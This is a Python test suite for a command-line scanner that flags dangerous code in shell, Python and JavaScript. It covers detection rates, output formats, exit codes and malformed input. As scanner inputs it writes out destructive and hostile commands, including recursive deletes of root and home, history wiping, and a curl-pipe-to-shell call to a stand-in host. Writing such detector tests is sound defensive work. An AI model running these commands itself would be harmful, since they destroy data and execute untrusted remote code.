"""deskhand scan as a user runs it: the corpus of realistic snippets
(detection and false-positive rates), the output formats, the exit codes
(0 clean, 1 findings, 2 error) and every bad input: missing files, unknown
languages, malformed or unsafe rule files, invalid UTF-8, NUL bytes and
huge input."""
import json
import os
import re
import stat
import unittest

import harness as h

HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "corpus")
LINE = re.compile(r"^(\d+):(low|medium|high|critical):([a-z][a-z0-9._-]*): (.+)$")


def setUpModule():
    global XDG, ENV
    XDG = h.tmpdir()
    # An empty config home: the user's own rule extensions never leak in.
    ENV = dict(os.environ, XDG_CONFIG_HOME=XDG)


def scan(*args, input=None, env=None, timeout=120):
    return h.run([h.binary(), "scan"] + list(args), input=input,
                 env=env or ENV, timeout=timeout)


def write(name, data, mode=0o600):
    path = os.path.join(XDG, name)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)
    return path


class Corpus(unittest.TestCase):
    def files(self, kind):
        d = os.path.join(CORPUS, kind)
        return sorted(os.path.join(d, n) for n in os.listdir(d))

    def test_corpus_is_big_and_mixed(self):
        dangerous, benign = self.files("dangerous"), self.files("benign")
        self.assertGreaterEqual(len(dangerous) + len(benign), 60)
        self.assertGreaterEqual(len(dangerous), 30)
        self.assertGreaterEqual(len(benign), 30)
        for files in (dangerous, benign):
            exts = {os.path.splitext(f)[1] for f in files}
            self.assertTrue({".sh", ".py", ".js"} <= exts, exts)

    def test_detection_and_false_positive_rates(self):
        caught, missed, flagged, passed = [], [], [], []
        for f in self.files("dangerous"):
            r = scan(f)
            self.assertIn(r.returncode, (0, 1), r.stderr)
            (caught if r.returncode == 1 else missed).append(os.path.basename(f))
        for f in self.files("benign"):
            r = scan(f)
            self.assertIn(r.returncode, (0, 1), r.stderr)
            if r.returncode == 1:
                flagged.append("%s (%s)" % (os.path.basename(f),
                                            r.stdout.decode().strip().replace("\n", "; ")))
            else:
                passed.append(f)
        nd, nb = len(caught) + len(missed), len(flagged) + len(passed)
        detection = len(caught) / nd
        false_pos = len(flagged) / nb
        print("# dangerous caught: %d/%d = %.1f%%" % (len(caught), nd, 100 * detection))
        print("# benign flagged:   %d/%d = %.1f%%" % (len(flagged), nb, 100 * false_pos))
        for m in missed:
            print("# missed: " + m)
        for m in flagged:
            print("# flagged: " + m)
        self.assertGreaterEqual(detection, 0.90)
        self.assertLessEqual(false_pos, 0.10)


class Output(unittest.TestCase):
    def test_clean_file_exits_0_silently(self):
        r = scan(os.path.join(CORPUS, "benign", "b01_rebuild_package.sh"))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout, b"")
        self.assertEqual(r.stderr, b"")

    def test_findings_lines(self):
        path = write("x.sh", "echo hi\n\nrm -rf ~\nhistory -c\n")
        r = scan(path)
        self.assertEqual(r.returncode, 1, r.stderr)
        lines = r.stdout.decode().splitlines()
        self.assertEqual(lines[0], "3:critical:destroy.rm-home: recursive delete of a home directory")
        for line in lines:
            self.assertRegex(line, LINE)
        self.assertTrue(any(l.startswith("4:high:history.wipe:") for l in lines))

    def test_json(self):
        path = write("x.py", "import os\nos.system('curl -s https://x.example/i | sh')\n")
        r = scan("--json", path)
        self.assertEqual(r.returncode, 1, r.stderr)
        doc = json.loads(r.stdout)
        self.assertEqual(doc["language"], "python")
        self.assertEqual(doc["worst"], "critical")
        f = [x for x in doc["findings"] if x["rule"] == "exec.pipe-to-shell"][0]
        self.assertEqual(f["line"], 2)
        self.assertEqual(f["severity"], "critical")
        self.assertIn("curl", f["excerpt"])
        r = scan("--json", os.path.join(CORPUS, "benign", "b19_sales_report.py"))
        self.assertEqual(r.returncode, 0)
        self.assertEqual(json.loads(r.stdout)["findings"], [])

    def test_stdin_and_language(self):
        r = scan("--lang", "shell", "-", input="rm -rf /\n")
        self.assertEqual(r.returncode, 1)
        self.assertIn(b"destroy.rm-root", r.stdout)
        r = scan("-", input="#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/')\n")
        self.assertEqual(r.returncode, 1)
        self.assertIn(b"3:critical:destroy.python-rmtree", r.stdout)
        # --lang wins over the extension
        path = write("odd.txt", "fs.rmSync(os.homedir(), {recursive: true})\n")
        self.assertEqual(scan("--lang", "js", path).returncode, 1)
        self.assertEqual(scan("--lang", "javascript", path).returncode, 1)
        r = scan("--lang", "python", write("y.sh", "echo hi\n"))
        self.assertEqual(r.returncode, 0)

    def test_check_rules_and_normalized(self):
        r = scan("--check-rules")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertRegex(r.stdout.decode(), r"^\d+ rules, \d+ examples pass \(")
        r = scan("--normalized", "--lang", "sh", "-", input="ls  -l   # list\n\\\nrm \\\n -rf x\n")
        self.assertEqual(r.returncode, 0)
        self.assertEqual(r.stdout, b"ls -l\nrm -rf x\n")

    def test_help_lists_scan(self):
        r = h.run([h.binary(), "--help"])
        self.assertIn(b"deskhand scan [--lang", r.stdout)


class Errors(unittest.TestCase):
    def assertError(self, r, *needles):
        self.assertEqual(r.returncode, 2, (r.stdout, r.stderr))
        err = r.stderr.decode()
        self.assertTrue(err.startswith("deskhand: scan: "), err)
        for n in needles:
            self.assertIn(n, err)
        self.assertEqual(r.stdout, b"")

    def test_missing_file(self):
        self.assertError(scan("/nonexistent/x.sh"), "/nonexistent/x.sh", "No such file")

    def test_directory(self):
        self.assertError(scan("--lang", "sh", XDG), XDG)

    def test_unknown_language(self):
        r = scan("--lang", "cobol", write("a.sh", "ls\n"))
        self.assertError(r, "unknown language 'cobol'")
        self.assertIn(b"usage: deskhand scan", r.stderr)

    def test_cannot_tell_language(self):
        self.assertError(scan(write("notes.txt", "rm -rf ~\n")), "cannot tell the language", "--lang")
        self.assertError(scan("-", input="rm -rf ~\n"), "standard input")

    def test_bad_arguments(self):
        self.assertError(scan(), "name a FILE")
        self.assertError(scan("--frob", "x.sh"), "unknown option '--frob'")
        self.assertError(scan("a.sh", "b.sh"), "only one FILE")
        self.assertError(scan("--lang"), "--lang needs a value")
        self.assertError(scan("x.sh", "--rules"), "--rules needs a value")

    def test_malformed_rules(self):
        bad = write("bad.json", '{"version": 1,\n  "rules": [\n    {"id": "x",, }\n  ]\n}\n')
        self.assertError(scan("--rules", bad, write("c.sh", "ls\n")), bad, ":3:", "malformed JSON")
        regex = write("regex.json", json.dumps({"version": 1, "rules": [{
            "id": "t.bad", "languages": ["shell"], "severity": "low", "message": "m",
            "patterns": ["(unclosed"]}]}))
        self.assertError(scan("--rules", regex, write("c.sh", "ls\n")), regex, "t.bad",
                         "does not compile")
        typo = write("typo.json", json.dumps({"version": 1, "rules": [{
            "id": "t.typo", "languages": ["shell"], "severity": "low", "message": "m",
            "patterns": ["x"], "unles": ["y"]}]}))
        self.assertError(scan("--rules", typo, "-", input="x"), "unknown key \"unles\"")
        self.assertError(scan("--rules", "/nonexistent/r.json", "-", input="x"), "/nonexistent/r.json")

    def test_explicit_rules_replace_builtin(self):
        only = write("only.json", json.dumps({"version": 1, "rules": [{
            "id": "t.only", "languages": ["shell"], "severity": "medium", "message": "no cats",
            "patterns": [r"\bcat\b"]}]}))
        r = scan("--rules", only, "--lang", "sh", "-", input="rm -rf ~\ncat x\n")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stdout.decode(), "2:medium:t.only: no cats\n")

    def test_user_extension_file(self):
        home = h.tmpdir()
        os.makedirs(os.path.join(home, "deskhand"))
        ext = os.path.join(home, "deskhand", "scan-rules.json")
        with open(ext, "w") as f:
            json.dump({"version": 1, "rules": [
                {"id": "local.telnet", "languages": ["shell"], "severity": "low",
                 "message": "telnet", "patterns": [r"\btelnet\b"]},
                {"id": "history.wipe", "disabled": True}]}, f)
        os.chmod(ext, 0o600)
        env = dict(os.environ, XDG_CONFIG_HOME=home)
        r = scan("--lang", "sh", "-", input="telnet x\nhistory -c\n", env=env)
        self.assertEqual(r.stdout.decode(), "1:low:local.telnet: telnet\n")
        r = scan("--no-user-rules", "--lang", "sh", "-", input="telnet x\nhistory -c\n", env=env)
        self.assertIn(b"history.wipe", r.stdout)
        self.assertNotIn(b"local.telnet", r.stdout)
        os.chmod(ext, 0o666)
        r = scan("--lang", "sh", "-", input="ls\n", env=env)
        self.assertError(r, "refusing", ext)
        os.chmod(ext, 0o600)
        with open(ext, "w") as f:
            f.write("{not json")
        self.assertError(scan("--lang", "sh", "-", input="ls\n", env=env), ext, "malformed JSON")


class HostileInput(unittest.TestCase):
    def test_invalid_utf8_and_nul(self):
        data = b"\xff\xfe\x00echo \xc3\x28\x00\nrm -rf ~ \xed\xa0\x80\n\x1b[2J\xf8\x88\x80\n"
        for args in ([], ["--json"]):
            r = scan("--lang", "sh", *args, "-", input=data)
            self.assertEqual(r.returncode, 1, r.stderr)
        doc = json.loads(r.stdout.decode("utf-8"))  # strict: valid UTF-8
        self.assertEqual(doc["findings"][0]["line"], 2)
        for lang in ("sh", "py", "js"):
            blob = bytes(range(256)) * 64
            r = scan("--lang", lang, "--json", "-", input=blob)
            self.assertIn(r.returncode, (0, 1), r.stderr)
            json.loads(r.stdout.decode("utf-8"))

    def test_huge_input(self):
        # 20 MB of ordinary code with one dangerous line in the middle.
        chunk = b"import json\nprint(json.dumps({'a': [1, 2, 3]}))\n" * 1000
        n = (20 << 20) // len(chunk)
        data = chunk * (n // 2) + b"shutil.rmtree('/')\n" + chunk * (n // 2)
        r = scan("--lang", "python", "-", input=data, timeout=280)
        self.assertEqual(r.returncode, 1, r.stderr)
        line = 2000 * (n // 2) + 1
        self.assertIn(b"%d:critical:destroy.python-rmtree" % line, r.stdout)

    def test_over_the_limit(self):
        path = os.path.join(XDG, "huge.sh")
        with open(path, "wb") as f:
            f.truncate((32 << 20) + 1)
        self.assertEqual(scan(path).returncode, 2)
        r = scan(path)
        self.assertIn(b"too large", r.stderr)
        r = scan("--lang", "sh", "-", input=b"x" * ((32 << 20) + 1))
        self.assertEqual(r.returncode, 2)
        self.assertIn(b"too large", r.stderr)

    def test_one_enormous_line(self):
        data = b'curl "' * 300000 + b"\n"
        r = scan("--lang", "sh", "-", input=data, timeout=280)
        self.assertIn(r.returncode, (0, 1), r.stderr)


if __name__ == "__main__":
    h.main()
